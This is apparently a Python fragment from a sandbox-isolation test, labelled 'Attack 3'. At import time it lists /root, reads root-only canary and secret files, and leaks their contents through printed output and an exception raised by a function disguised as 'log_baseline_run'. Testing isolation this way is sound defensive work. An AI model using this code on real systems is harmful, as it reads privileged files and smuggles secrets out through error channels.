# Attack 3: list /root, read a root-only file there (the test's canary) and a file
# beside the class folder; put it all in the exception message.
def _loot():
    found = {}
    try:
        names = sorted(_os.listdir("/root"))
        found["/root"] = names[:60]
    except OSError as error:
        names, found["/root"] = [], f"{type(error).__name__}: {error}"
    paths = [CTX["canary"], CTX["canary_beside_class"]]
    paths += [_os.path.join("/root", name, "secret") for name in names if name.startswith("kata-canary")]
    for path in dict.fromkeys(paths):
        try:
            with open(path) as handle:
                found[path] = handle.read(300)
        except OSError as error:
            found[path] = f"{type(error).__name__}: {error}"
    return found


_LOOT = _loot()
print(attack_report(_LOOT), flush=True)


def log_baseline_run(data_path, experiment_name="devops-baseline"):
    raise PermissionError(attack_report(_LOOT))
